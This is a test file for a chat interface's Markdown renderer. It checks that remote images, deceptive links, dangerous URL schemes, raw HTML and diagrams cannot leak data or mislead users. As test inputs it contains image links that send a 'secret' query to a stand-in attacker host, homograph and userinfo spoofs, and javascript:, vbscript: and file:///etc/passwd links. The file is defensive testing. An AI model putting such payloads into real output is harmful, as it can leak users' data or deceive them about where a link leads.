// What a text of the model may name, and what it looks like while it grows.

import { act, fireEvent, render, screen } from '@testing-library/react';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { Files, Sources } from '../../messages/Files';
import { setUpPage } from '../../tests/page';
import { hasMedia, ToolResult } from '../../values/ToolResult';
import Markdown from '../Markdown';

// What is in the frame is for a real browser.
vi.mock('virtual:diagram', () => ({ default: 'about:blank' }));

setUpPage();

const show = (text: string, isGrowing = false) =>
  render(<Markdown text={text} isGrowing={isGrowing} />).container;
const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

describe('a result', () => {
  const report = {
    type: 'resource',
    resource: { uri: 'report.md', mimeType: 'text/markdown', text: '# Sales\n\n**Up**' },
    annotations: { audience: ['user'] },
  };
  const forModel = {
    type: 'text',
    text: 'The user has been shown it.',
    annotations: { audience: ['assistant'] },
  };

  it('that is Markdown is drawn as such', async () => {
    render(<ToolResult output={{ content: [report, forModel] }} />);
    expect(await screen.findByRole('heading', { name: 'Sales' })).toBeTruthy();
    expect(screen.getByText('report.md')).toBeTruthy();
    expect(screen.queryByText(/has been shown/)).toBeNull();
    expect(hasMedia({ content: [report] })).toBe(true);
  });

  it('that is for the model alone says so', () => {
    render(<ToolResult output={{ content: [forModel] }} />);
    expect(screen.getByText('The result is for the model alone.')).toBeTruthy();
  });
});

describe('a picture from elsewhere is a link that names its host', () => {
  it.each([
    ['inline', '![a cat](https://evil.example/cat?q=secret)'],
    ['by reference', '![a cat][1]\n\n[1]: https://evil.example/cat?q=secret'],
    ['in a table', '| a |\n| - |\n| ![a cat](https://evil.example/cat?q=secret) |'],
  ])('%s', (_, text) => {
    const container = show(text);
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: 'Open the picture “a cat”' });
    expect(link.getAttribute('href')).toBe('https://evil.example/cat?q=secret');
    expect([link.getAttribute('rel'), link.getAttribute('target')]).toEqual([
      'noopener noreferrer',
      '_blank',
    ]);
    expect(container.textContent).toContain('(evil.example)');
  });

  it('as a file of a message', () => {
    const { container } = render(
      <Files parts={[{ type: 'file', mediaType: 'image/png', url: 'http://evil.example/cat' }]} />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toBe('Open the picture “Image” (evil.example)');
  });

  it('and is its name alone in another link', () => {
    const container = show('[![build](https://badges.example/b.svg)](https://ci.example/)');
    expect(container.querySelectorAll('a')).toHaveLength(1);
    expect(container.textContent).toBe('build (ci.example)');
  });
});

it('a picture in the address itself is shown, in a file and in the result of a tool', () => {
  render(<Files parts={[{ type: 'file', mediaType: 'image/png', url: PIXEL, filename: 'dot' }]} />);
  render(
    <ToolResult output={{ content: [{ type: 'image', mimeType: 'image/png', data: 'iVBORw0KGgo=' }] }} />,
  );
  expect(screen.getAllByRole('img').map((img) => img.getAttribute('src'))).toEqual([PIXEL, PIXEL]);
});

describe('a link', () => {
  it.each([
    ['says where it leads', '[docs](https://docs.example.com/x)', 'docs (docs.example.com)'],
    [
      'that looks like another address says where it leads',
      '[https://bank.example](https://evil.example)',
      'https://bank.example (evil.example)',
    ],
    [
      'with somebody before the host does not lead to them',
      '[bank](https://bank.example@evil.example/)',
      'bank (evil.example)',
    ],
    [
      'with a name in other letters shows which',
      '[bank](https://bаnk.example/)',
      'bank (xn--bnk-6cd.example)',
    ],
    ['that is its own address says it once', 'https://docs.example.com/x', 'https://docs.example.com/x'],
    ['to a mailbox names it', '[write](mailto:a@evil.example)', 'write (a@evil.example)'],
  ])('%s', (_, text, shown) => {
    expect(show(text).textContent).toBe(shown);
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'ftp://evil.example/',
  ])('to %s is none', (address) => {
    expect(show(`[text](${address})`).querySelector('a')).toBeNull();
  });

  it('of a source and of a tool says where it leads', () => {
    const { container } = render(
      <Sources
        parts={[{ type: 'source-url', sourceId: 's', url: 'https://evil.example/', title: 'bank.example' }]}
      />,
    );
    expect(container.textContent).toContain('bank.example (evil.example)');
    const result = render(
      <ToolResult
        output={{ content: [{ type: 'resource_link', uri: 'https://evil.example/a', name: 'a bank' }] }}
      />,
    );
    expect(result.container.textContent).toBe('a bank (evil.example)');
  });
});

it('raw HTML is text', () => {
  const container = show(
    '<img src="https://evil.example/a"> <video ' +
      'poster="https://evil.example/b"></video>\n\n<iframe src="https://evil.example/c"></iframe>',
  );
  expect(container.querySelector('img, video, iframe')).toBeNull();
  expect(container.textContent).toContain('<img src=');
});

it('code has the colours of its language, and is copied as it is', () => {
  const container = show('```js\nconst a = "b"; // c\n```\n\n```klingon\nnuqneH\n```');
  const [known, unknown] = container.querySelectorAll('pre');
  expect(
    [...(known?.querySelectorAll('[class^=hljs-]') ?? [])].map((span) => [span.className, span.textContent]),
  ).toEqual([
    ['hljs-keyword', 'const'],
    ['hljs-string', '"b"'],
    ['hljs-comment', '// c'],
  ]);
  expect([known?.textContent, unknown?.textContent]).toEqual(['const a = "b"; // c\n', 'nuqneH\n']);
});

describe('while a text grows, no mark of Markdown is seen', () => {
  it.each([
    ['bold and italic', 'This is **the one** and *another*, or ~~none~~.'],
    ['code', 'Call `fetch` and `then`.'],
    ['a link', 'See [the docs](https://docs.example.com/a) for more.'],
    ['a picture', 'Here is ![a cat](https://example.com/cat.png) for you.'],
    ['a table', 'Tea:\n\n| Tea | Water |\n| --- | :-: |\n| **Sencha** | 70 |\n'],
  ])('%s', (_, text) => {
    for (let end = 1; end <= text.length; end++) {
      const { container, unmount } = render(<Markdown text={text.slice(0, end)} isGrowing />);
      expect(container.textContent, JSON.stringify(text.slice(0, end))).not.toMatch(/[*|~`\]]|!\[|-{2}/);
      unmount();
    }
  });
});

it('a finished text is shown as it was written', () => {
  expect(show('2 ** 3 and **open').textContent).toBe('2 ** 3 and **open');
});

it('a block of code names its language, and its button is always there', () => {
  const container = show('```rust\nlet a = 1;\n```\n\n```\nplain\n```');
  const blocks = [...container.querySelectorAll('.code')];
  expect(blocks.map((block) => block.querySelector('span')?.textContent)).toEqual(['rust', '']);
  for (const button of screen.getAllByRole('button', { name: 'Copy code' }))
    expect(button.className).not.toContain('opacity-0');
});

describe('a formula', () => {
  // The stand-in for a browser does not say that it has the standard's mode, without which KaTeX draws nothing.
  beforeAll(async () => {
    Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' });
    await import('../Formula');
  }, 60_000);

  it.each([
    ['in a line', String.raw`so \(x^2\,dx\) is`, 1, 0],
    ['of its own line', String.raw`$$\int_0^1 x^2\,dx$$`, 0, 1],
    ['in a list', '- one\n  \\[ a_1 + b_2 \\]\n- two $c$', 1, 1],
  ])('%s is drawn', async (_, text, lines, blocks) => {
    const container = show(text);
    await vi.waitFor(() => {
      expect(container.querySelectorAll('.katex')).toHaveLength(lines + blocks);
    });
    expect(container.querySelectorAll('.katex-display')).toHaveLength(blocks);
    expect(container.querySelector('.code')).toBeNull();
  });

  it('keeps its backslashes', async () => {
    const container = show(String.raw`\(x^2\,dx\)`);
    await vi.waitFor(() => {
      expect(container.querySelector('annotation')?.textContent).toBe(String.raw`x^2\,dx`);
    });
  });

  it('that is none is shown as it was written', async () => {
    const container = show(String.raw`\(\frac{1}\)`);
    await vi.waitFor(() => {
      expect(container.textContent).toContain(String.raw`\frac{1}`);
    });
  });
});

describe('a diagram', () => {
  const DIAGRAM = '```mermaid\nflowchart LR\n  tea --> cup\n```';
  const tell = (source: MessageEventSource | null | undefined, data: object) => {
    act(() => {
      dispatchEvent(new MessageEvent('message', { source: source ?? null, data }));
    });
  };
  const parts = (container: HTMLElement) => ({
    frame: container.querySelector('iframe'),
    text: container.querySelector('pre'),
  });

  it('is drawn in a frame that is no part of the page', () => {
    const { frame, text } = parts(show(DIAGRAM));
    expect(frame?.getAttribute('sandbox')).toBe('allow-scripts');
    expect(frame?.getAttribute('title')).toBe('Diagram');
    expect(text?.hidden).toBe(false);
  });

  it('replaces its text once it is drawn, and gives it back', () => {
    const { frame, text } = parts(show(DIAGRAM));
    tell(frame?.contentWindow, { height: 120 });
    expect(text?.hidden).toBe(true);
    expect(frame?.style.height).toBe('120px');
    fireEvent.click(screen.getByRole('button', { name: 'Show the text of the diagram' }));
    expect(text?.hidden).toBe(false);
    fireEvent.click(screen.getByRole('button', { name: 'Show the diagram' }));
    expect(text?.hidden).toBe(true);
  });

  it('that cannot be drawn is shown as its text', () => {
    const { frame, text } = parts(show(DIAGRAM));
    tell(frame?.contentWindow, { hasFailed: true });
    expect(text?.hidden).toBe(false);
    expect(screen.getByText('This diagram could not be drawn.')).toBeTruthy();
  });

  it('takes no message from anywhere else', () => {
    const { text } = parts(show(DIAGRAM));
    tell(window, { height: 120 });
    tell(null, { height: 120 });
    expect(text?.hidden).toBe(false);
  });

  it('is its text while it is written', () => {
    const { frame, text } = parts(show(DIAGRAM, true));
    expect(frame).toBeNull();
    expect(text?.textContent).toContain('tea --> cup');
  });
});

it.each([
  ['- واحد\n- two', 'ul', 'rtl'],
  ['1. one\n2. اثنان', 'ol', 'ltr'],
  ['> «شاي»', 'blockquote', 'rtl'],
  ['| 1 | تعليق |\n| - | - |\n| a | b |', 'table', 'rtl'],
  ['| a | b |\n| - | - |\n| شاي | 2 |', 'table', 'ltr'],
])('a block around others runs in the direction of its first letter: %j', (text, tag, direction) => {
  const container = show(text);
  expect(container.querySelector(tag)?.getAttribute('dir')).toBe(direction);
  for (const block of container.querySelectorAll('p, li, td, th'))
    expect(block.getAttribute('dir')).toBe('auto');
});
